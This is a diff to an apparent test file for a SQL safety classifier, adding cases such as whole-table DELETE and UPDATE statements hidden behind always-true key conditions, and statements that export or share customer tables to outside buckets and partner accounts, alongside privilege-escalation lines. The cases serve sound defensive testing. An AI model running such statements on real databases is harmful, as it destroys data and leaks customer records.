@@ -69,6 +69,16 @@ DANGEROUS: list[tuple[str, Outcome, str]] = [
     ("GRANT SELECT, UPDATE ON orders TO app", REVIEW, "rights to change data"),
     ("GRANT SELECT ON ALL TABLES IN SCHEMA public TO analytics", REVIEW, "reads of every table"),
     ("GRANT reporting_reader TO alice", REVIEW, "a role granted to a user"),
+    ("DELETE FROM payments WHERE id > 0", REVIEW, "every generated key is positive"),
+    ("UPDATE users SET plan = 'free' WHERE user_id >= 1", REVIEW, "every key is at least 1"),
+    ("ALTER SHARE core_share ADD ACCOUNTS = PARTNERORG.QX84120", REVIEW, "data shared out"),
+    (
+        "EXPORT DATA OPTIONS (uri = 'gs://swap-2291/c-*.csv', format = 'CSV') AS "
+        "SELECT * FROM crm.customers",
+        REVIEW,
+        "a table exported to a bucket",
+    ),
+    ("UNLOAD ('select * from customers') TO 's3://x-bucket/c_'", REVIEW, "Redshift unload"),
     ("REVOKE ALL ON DATABASE app FROM app_user", REJECTED, "privilege change"),
     ("ALTER USER bob WITH SUPERUSER", REJECTED, "makes a superuser"),
     ("ALTER USER 'root'@'localhost' IDENTIFIED BY 'newpass'", REJECTED, "changes a password"),
@@ -159,6 +169,7 @@ DANGEROUS: list[tuple[str, Outcome, str]] = [
 EVERYDAY: list[tuple[str, str]] = [
     ("GRANT SELECT ON reporting.daily_visits TO analytics_ro;", "read of one view to a role"),
     ("GRANT USAGE ON SCHEMA reporting TO analytics_ro", "a schema looked into"),
+    ("DELETE FROM payments WHERE id > 1000 AND status = 'void'", "a range of keys"),
     ("INSERT INTO audit_log (actor, action) VALUES ($1, $2)", "an audit record written"),
     ("SELECT * FROM t WHERE id = %s", "parameterised (psycopg)"),
     ("SELECT * FROM t WHERE id = %(id)s AND name = %(name)s", "named pyformat"),
